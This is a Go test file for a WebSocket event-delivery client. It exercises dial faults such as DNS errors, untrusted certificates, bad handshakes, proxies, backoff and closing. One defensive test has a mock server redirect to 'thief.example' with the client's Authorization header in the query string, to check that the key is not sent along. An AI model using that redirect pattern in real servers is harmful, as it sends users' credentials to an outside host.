package linktest

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/eventdelivery/eds-go/eds"
	"github.com/eventdelivery/eds-go/internal/wslink"
)

// dials are the faults in which no service answers, or not as it should.
func (k *kit[O]) dials() []fault {
	return []fault{
		{"A11", func(t *testing.T) {
			k.dialErrors(t, &net.DNSError{Err: "no such host", Name: "service.example", IsNotFound: true}, "no such host")
		}},
		{"A11/telltale", func(t *testing.T) { // the key in an error is found by the client's checks
			k.dialErrors(t, fmt.Errorf("odd proxy: header %q\nrefused", k.Scheme+Secret), "odd proxy")
		}},
		{"A12", k.blackHole},
		{"A13", k.untrustedCertificate},
		{"A14", k.noAnswer},
		{"A15", k.redirect},
		{"A16", k.badHandshake},
		{"A18", k.acceptThenClose},
		{"A21", k.proxy},
		{"A21/tunnel", k.tunnel},
		{"A21/replaced", k.replacedDefaultTransport},
		{"E7", k.stopWhileConnecting},
		{"E9", k.noDialAfterClose},
	}
}

// dialErrors has the first three dials fail.
func (k *kit[O]) dialErrors(t *testing.T, err error, text string) {
	s := k.service(t, k.sound(1))
	n := 0
	c := k.kind.Client(s, k.Options.DialContext(func(ctx context.Context, network, addr string) (net.Conn, error) {
		if n++; n <= 3 {
			return nil, err
		}
		return s.DialContext(ctx, network, addr)
	}))
	k.receive(t, c, 1)
	if n != 4 {
		t.Errorf("%d dials", n)
	}
	if got := cause(c); !strings.Contains(got, text) {
		t.Errorf("the cause is %s", got)
	}
}

func (k *kit[O]) blackHole(t *testing.T) {
	n := 0
	s := k.service(t, k.sound(1))
	c := k.kind.Client(s, k.Options.DialContext(func(ctx context.Context, network, addr string) (net.Conn, error) {
		if n++; n == 1 {
			<-ctx.Done()
			return nil, ctx.Err()
		}
		return s.DialContext(ctx, network, addr)
	}))
	start := time.Now()
	k.receive(t, c, 1)
	if d := time.Since(start); d < k.DialTimeout || d > k.DialTimeout+time.Second {
		t.Errorf("connected after %v, want a little over the dial time-out", d)
	}
}

// noAnswer has no answer for one dial, and a slow one for the next.
func (k *kit[O]) noAnswer(t *testing.T) {
	for _, c := range []struct {
		limit time.Duration
		opts  []O
	}{
		{k.DialTimeout, nil},
		{7 * time.Second, []O{k.Options.DialTimeout(7 * time.Second)}},
	} {
		slow := c.limit * 7 / 10
		s := k.service(t, func(n int, w http.ResponseWriter, r *http.Request) {
			if n == 1 {
				<-r.Context().Done() // the client gives up
				return
			}
			time.Sleep(slow) // some subscribe before they answer
			k.sound(1)(n, w, r)
		})
		start := time.Now()
		k.receive(t, k.kind.Client(s, c.opts...), 1)
		if d := time.Since(start); d < c.limit+slow || d > c.limit+slow+time.Second {
			t.Errorf("connected after %v, want a little over %v", d, c.limit+slow)
		}
	}
}

// untrustedCertificate also runs the whole way over TLS.
func (k *kit[O]) untrustedCertificate(t *testing.T) {
	// Its certificate is good for example.com.
	issuer := httptest.NewUnstartedServer(nil)
	issuer.StartTLS()
	cert := issuer.TLS.Certificates[0]
	roots := issuer.Client().Transport.(*http.Transport).TLSClientConfig.RootCAs
	issuer.Close()

	s := k.service(t, Accept(func(p *Peer) {
		k.send(p, 1)
		p.Acks(1)
		k.send(p, 2)
		p.Rest()
	}))
	client := func(host string) Client {
		s.URL = "wss://" + host
		return k.kind.Client(s,
			k.Options.DialContext(func(ctx context.Context, _, _ string) (net.Conn, error) {
				near, far := net.Pipe()
				return near, s.Connect(ctx, tls.Server(far, &tls.Config{Certificates: []tls.Certificate{cert}}))
			}),
			k.Options.HTTPClient(&http.Client{Transport: &http.Transport{
				DisableKeepAlives: true, TLSClientConfig: &tls.Config{RootCAs: roots,
					Time: func() time.Time { return time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC) }}}}))
	}
	bad := client("wrong.example")
	Until(t, bad, 5*time.Minute)
	if got := cause(bad); !strings.Contains(got, "certificate") {
		t.Errorf("the cause is %s", got)
	}
	dials(t, s, 0) // no request to a server that is not trusted
	bad.Close(t.Context())

	good := client("example.com")
	d := k.receive(t, good, 1)
	Until(t, good, time.Minute) // interrupted and resumed above TLS
	Ack(t, good, d)
	k.receive(t, good, 2)
}

func (k *kit[O]) redirect(t *testing.T) {
	elsewhere := k.service(t, Refuse(500, ""))
	s := k.service(t, func(n int, w http.ResponseWriter, r *http.Request) {
		if n <= 2 {
			http.Redirect(w, r, "http://thief.example/?stolen="+url.QueryEscape(r.Header.Get("Authorization")), http.StatusTemporaryRedirect)
			return
		}
		k.sound(1)(n, w, r)
	})
	c := k.kind.Client(s, k.Options.DialContext(func(ctx context.Context, network, addr string) (net.Conn, error) {
		if strings.HasPrefix(addr, "thief") {
			return elsewhere.DialContext(ctx, network, addr)
		}
		return s.DialContext(ctx, network, addr)
	}))
	k.receive(t, c, 1)
	if elsewhere.Count() != 0 {
		t.Error("followed a redirect with the key")
	}
	if got := cause(c); !strings.Contains(got, "thief.example") || strings.Contains(got, "stolen") {
		t.Errorf("the cause is %s", got)
	}
}

func (k *kit[O]) badHandshake(t *testing.T) {
	for name, header := range map[string]http.Header{
		"accept":      {"Connection": {"Upgrade"}, "Upgrade": {"websocket"}, "Sec-Websocket-Accept": {"wrong"}},
		"extension":   {"Connection": {"Upgrade"}, "Upgrade": {"websocket"}, "Sec-Websocket-Extensions": {"x-foo"}},
		"subprotocol": {"Connection": {"Upgrade"}, "Upgrade": {"websocket"}, "Sec-Websocket-Protocol": {"x-foo"}},
	} {
		t.Log(name)
		s := k.service(t, k.once(func(_ int, w http.ResponseWriter, r *http.Request) {
			if r.Header.Get("Sec-WebSocket-Extensions") != "" {
				t.Error("B9: compression offered")
			}
			maps.Copy(w.Header(), header)
			w.WriteHeader(http.StatusSwitchingProtocols)
		}))
		k.receive(t, k.kind.Client(s), 1)
		dials(t, s, 2)
	}
}

// acceptThenClose: the pauses grow, although each dial succeeds; only an
// acknowledgement has them start anew.
func (k *kit[O]) acceptThenClose(t *testing.T) {
	s := k.service(t, Accept(func(p *Peer) {
		if p.N == 20 {
			k.send(p, 1)
			p.Acks(1)
		}
		p.Close(1000, "")
	}))
	c := k.kind.Client(s, k.Options.Backoff(time.Second, 32*time.Second))
	d := k.receive(t, c, 1)
	gaps := s.Gaps()
	var sum time.Duration
	for i, g := range gaps {
		if limit := time.Second << min(i, 5); g > limit+time.Millisecond {
			t.Errorf("gap %d is %v, above %v", i, g, limit)
		}
		if g < 100*time.Millisecond {
			t.Errorf("gap %d is %v", i, g)
		}
		sum += g
	}
	// 19 gaps with a mean of about 13 s.
	if sum < time.Minute {
		t.Errorf("%d dials within %v", len(gaps)+1, sum)
	}
	Ack(t, c, d)
	Until(t, c, 100*time.Second)
	if after := s.Gaps()[len(gaps):]; len(after) < 3 || after[0] > time.Second+time.Millisecond {
		t.Errorf("after an acknowledgement: %v", after)
	}
}

var proxyURL = &url.URL{Scheme: "http", Host: "proxy.example:3128"}

func (k *kit[O]) proxy(t *testing.T) {
	s := k.service(t, Refuse(407, "proxy wants a password"))
	k.proxyRefuses(t, k.kind.Client(s, k.Options.HTTPClient(&http.Client{
		Transport: &http.Transport{DisableKeepAlives: true, Proxy: http.ProxyURL(proxyURL)},
	})))
	dials(t, s, 1)
}

// tunnel is the same for TLS, of which the proxy must see nothing.
func (k *kit[O]) tunnel(t *testing.T) {
	s := k.service(t, Refuse(407, "proxy wants a password"))
	s.URL = "wss://service.example"
	c := k.kind.Client(s)
	k.Handshakes(c).Transport.(*http.Transport).Proxy = http.ProxyURL(proxyURL)
	k.proxyRefuses(t, c)
	dials(t, s, 1)
	for _, r := range s.Asked() {
		if r.Method != http.MethodConnect || r.Header.Get("Authorization") != "" {
			t.Error("the proxy was told the key")
		}
	}
}

func (k *kit[O]) proxyRefuses(t *testing.T, c Client) {
	t.Helper()
	_, err := c.Receive(t.Context())
	if ce, ok := errors.AsType[*eds.ConfigError](err); !ok || !strings.Contains(ce.Reason, "407") {
		t.Errorf("Receive = %v", err)
	}
}

type otherTransport struct{ http.RoundTripper }

// replacedDefaultTransport: a program may have put a transport of its own in
// the place of the default.
func (k *kit[O]) replacedDefaultTransport(t *testing.T) {
	before := http.DefaultTransport
	http.DefaultTransport = otherTransport{before}
	defer func() { http.DefaultTransport = before }()
	k.receive(t, k.kind.Client(k.service(t, k.sound(1))), 1)
}

func (k *kit[O]) stopWhileConnecting(t *testing.T) {
	hang := make(chan struct{})
	defer close(hang)
	for name, answer := range map[string]Answer{
		"handshake": func(int, http.ResponseWriter, *http.Request) { <-hang },
		"pause":     Refuse(503, ""),
		"standby":   Refuse(409, ""),
	} {
		c := k.kind.Client(k.service(t, answer), k.Options.Backoff(time.Hour, time.Hour))
		ctx, cancel := context.WithTimeout(t.Context(), 5*time.Second+time.Millisecond)
		start := time.Now()
		_, err := c.Receive(ctx)
		cancel()
		if !errors.Is(err, context.DeadlineExceeded) || time.Since(start) > 5100*time.Millisecond {
			t.Errorf("%s: Receive = %v after %v", name, err, time.Since(start))
		}
		c.Close(t.Context())
		if time.Since(start) > 5100*time.Millisecond {
			t.Errorf("%s: Close took until %v", name, time.Since(start))
		}
	}
}

func (k *kit[O]) noDialAfterClose(t *testing.T) {
	s := k.service(t, k.sound())
	c := k.kind.Client(s)
	Until(t, c, time.Second)
	c.Close(t.Context())
	c.Close(t.Context())
	if _, err := c.Receive(t.Context()); err == nil {
		t.Error("Receive after Close")
	}
	dials(t, s, 1)
	state(t, c, eds.Closed)

	slow := func(n int, w http.ResponseWriter, r *http.Request) {
		time.Sleep(time.Second)
		k.sound()(n, w, r)
	}
	for what, answer := range map[string]Answer{"a message is awaited": k.sound(), "a dial is under way": slow} {
		s := k.service(t, answer)
		c := k.kind.Client(s)
		var receiving sync.WaitGroup
		receiving.Go(func() {
			if d, err := c.Receive(t.Context()); !wslink.Closed(err) {
				t.Errorf("closed while %s: Receive = %+v, %v", what, d, err)
			}
		})
		synctest.Wait()
		time.Sleep(500 * time.Millisecond)
		c.Close(t.Context())
		receiving.Wait()
		if open, _ := s.Open(); open != 0 {
			t.Errorf("closed while %s: a connection was left open", what)
		}
	}
}
